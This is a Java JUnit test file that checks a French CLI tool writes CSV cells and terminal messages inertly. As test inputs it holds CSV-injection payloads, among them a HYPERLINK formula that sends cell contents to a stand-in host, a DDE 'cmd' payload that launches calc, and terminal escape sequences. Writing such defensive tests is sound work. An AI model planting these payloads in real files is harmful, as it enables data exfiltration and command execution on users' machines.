package fr.cotation.examples.cli;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static fr.cotation.examples.cli.Lancement.cotation;
import static fr.cotation.examples.cli.Lancement.fixture;
import static fr.cotation.examples.cli.CoterCommandeTest.DATE;
import static fr.cotation.examples.cli.CoterCommandeTest.NUMERO;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Issue 19, item 6: what the tool writes is read by spreadsheets and terminals; a value from a file is shown
 * there, never obeyed.
 */
class SortiesInertesTest {
    private static final String FORMULE = "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")";

    @TempDir
    Path dossier;

    private Path ecrire(String nom, String contenu) throws IOException {
        return Files.writeString(dossier.resolve(nom), contenu, StandardCharsets.UTF_8);
    }

    @Test
    void aFormulaInANumeroIsWrittenAsTextInTheCsvOutput() throws IOException {
        Path f = ecrire("formule.json", CoterCommandeTest.json("cli/une-demande.json")
                .replace(NUMERO, FORMULE.replace("\"", "\\\"")));
        Path sortie = dossier.resolve("cotations.csv");

        var r = cotation("coter", "--date", DATE, "--format", "csv", "-o", sortie.toString(), f.toString());

        assertEquals(CodeSortie.OK, r.code(), r.toString());
        List<String> lignes = Files.readAllLines(sortie);
        assertEquals(5, lignes.size(), lignes.toString()); // header and four communes
        for (String l : lignes.subList(1, lignes.size())) {
            assertTrue(l.startsWith("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\","), l);
        }
    }

    @Test
    void aFormulaInARejectedCellIsWrittenAsTextInTheErrorsFile() throws IOException {
        String csv = Files.readString(Path.of(fixture("cli/demandes.csv"))).replace("SANS_ABRI", "=cmd|' /C calc'!A0")
                .replace("0060624011000002A0601", "@SUM(1+1)");
        Path f = ecrire("formule.csv", csv);
        Path erreurs = dossier.resolve("rejets.csv");

        var r = cotation("coter", "--date", DATE, "--erreurs", erreurs.toString(), f.toString());

        assertEquals(CodeSortie.DEMANDES_REJETEES, r.code(), r.toString());
        List<String> rejets = Files.readAllLines(erreurs);
        assertEquals(2, rejets.size(), rejets.toString());
        assertTrue(rejets.get(1).contains(",'@SUM(1+1),logement,'=cmd|' /C calc'!A0,"), rejets.get(1));
        for (String l : rejets) {
            for (String cellule : l.split(",")) {
                String c = cellule.startsWith("\"") ? cellule.substring(1) : cellule;
                assertFalse(c.startsWith("=") || c.startsWith("@") || c.startsWith("+"), l);
            }
        }
    }

    @Test
    void controlCharactersOfANumeroReachTheTerminalEscaped() throws IOException {
        String csv = Files.readString(Path.of(fixture("cli/demandes.csv")))
                .replace("0060624011000002A0601", "X\u001b]0;titre\u0007\u001b[2J")
                .replace("SANS_ABRI", "SANS\u001b[31mABRI");
        Path f = ecrire("controle.csv", csv);

        var r = cotation("coter", "--date", DATE, f.toString());

        assertEquals(CodeSortie.DEMANDES_REJETEES, r.code(), r.toString());
        assertFalse(r.err().contains("\u001b") || r.err().contains("\u0007"), r.err());
        assertFalse(r.out().contains("\u001b"), r.out());
        assertTrue(r.err().contains("demande X\\u001b]0;titre\\u0007\\u001b[2J : logement = SANS\\u001b[31mABRI : code inconnu"),
                r.err());
    }

    @Test
    void aCellIsInertButANumberKeepsItsSign() {
        assertEquals("'=1+2", CelluleCsv.neutre("=1+2"));
        assertEquals("'+33 6", CelluleCsv.neutre("+33 6"));
        assertEquals("'-1+HYPERLINK(\"x\")", CelluleCsv.neutre("-1+HYPERLINK(\"x\")"));
        assertEquals("'\\tx", CelluleCsv.neutre("\tx"));
        assertEquals("-12.5", CelluleCsv.neutre("-12.5"));
        assertEquals("06088", CelluleCsv.neutre("06088"));
        assertEquals(3, CelluleCsv.neutre(3));
    }
}
